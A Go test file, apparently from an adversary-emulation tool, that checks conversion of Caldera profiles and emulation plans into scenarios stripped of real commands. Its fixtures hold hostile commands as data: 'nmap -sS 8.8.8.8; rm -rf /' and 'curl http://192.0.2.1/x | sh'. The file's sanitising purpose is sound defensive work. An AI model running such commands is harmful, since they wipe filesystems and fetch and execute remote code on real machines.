package scenario_test

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/lapwing-defence/lapwing/internal/exercise/scenario"
	"github.com/lapwing-defence/lapwing/internal/yamldoc"
)

const profile = `
id: p1
name: Two "steps" and ${vars.x}
atomic_ordering: [b, gone, a, gone]
---
- id: a
  name: Scan
  description: looks around
  tactic: discovery
  technique: {attack_id: T1046, name: Network Service Discovery}
  platforms: {linux: {sh: {command: "nmap -sS 8.8.8.8; rm -rf /"}}}
- id: b
  name: Dump
  tactic: credential-access
  technique: {attack_id: T1003.001, name: LSASS}
- id: c
  name: Wipe
  tactic: impact
  technique: {attack_id: T1485, name: Data Destruction}
- id: "d\"\\\u2028$"
  name: "odd \\ \" name"
  tactic: Command and Control
  technique: {attack_id: t1071.001}
`

func TestConvertCaldera(t *testing.T) {
	c, err := scenario.Convert("profile.yml", strings.NewReader(profile))
	if err != nil {
		t.Fatal(err)
	}
	s, err := scenario.Load("converted", strings.NewReader(string(c.YAML)))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, st := range s.Adversary.Steps {
		got = append(got, st.Technique.ID+" "+st.Action)
	}
	if want := []string{"T1003.001 host.behaviour", "T1046 tcp.probe", "T1071.001 beacon.http"}; !slices.Equal(got, want) || c.Steps != 3 {
		t.Errorf("steps %q, want %q", got, want)
	}
	if len(s.Notes) != 2 || !strings.Contains(s.Notes[0], "gone, which the profile names: it is not in the file") || !strings.Contains(s.Notes[1], "T1485 Wipe (c): no action shows its technique") {
		t.Errorf("notes %q", s.Notes)
	}
	for _, bad := range []string{"nmap", "rm -rf", "8.8.8.8"} {
		if strings.Contains(string(c.YAML), bad) {
			t.Errorf("the scenario holds %q of a command", bad)
		}
	}
}

func TestConvertEmulationPlan(t *testing.T) {
	c, err := scenario.Convert("plan.yaml", strings.NewReader(`
- emulation_plan_details: {id: x, adversary_name: Somebody, attack_version: 8}
- id: 4f
  name: Web shell
  tactic: persistence
  technique: {attack_id: T1505.003, name: Web Shell}
  cti_source: https://www.example.com/report
  procedure_group: procedure_persistence
  procedure_step: 1.A.2
  executors: [{name: sh, command: "curl http://192.0.2.1/x | sh"}]
`))
	if err != nil {
		t.Fatal(err)
	}
	s, err := scenario.Load("converted", strings.NewReader(string(c.YAML)))
	if err != nil {
		t.Fatal(err)
	}
	st := s.Adversary.Steps[0]
	if s.Name != "Somebody, emulation plan" || st.Number != "1.A.2" || st.Group != "procedure_persistence" || st.Args.Text("behaviour") == "" {
		t.Errorf("%q, step %+v", s.Name, st)
	}
}

func TestConvertNothing(t *testing.T) {
	var faults yamldoc.Faults
	if _, err := scenario.Convert("x", strings.NewReader("a: b")); !errors.As(err, &faults) {
		t.Errorf("got %v", err)
	}
}

// FuzzConvert wants every plan to be refused with a fault or to become a
// scenario that loads.
func FuzzConvert(f *testing.F) {
	f.Add(profile)
	f.Fuzz(func(t *testing.T, text string) {
		c, err := scenario.Convert("plan", strings.NewReader(text))
		var faults yamldoc.Faults
		if err != nil && (!errors.As(err, &faults) || strings.Contains(err.Error(), "does not load")) {
			t.Fatal(err)
		}
		if err == nil && len(c.YAML) == 0 {
			t.Fatal("nothing made")
		}
	})
}
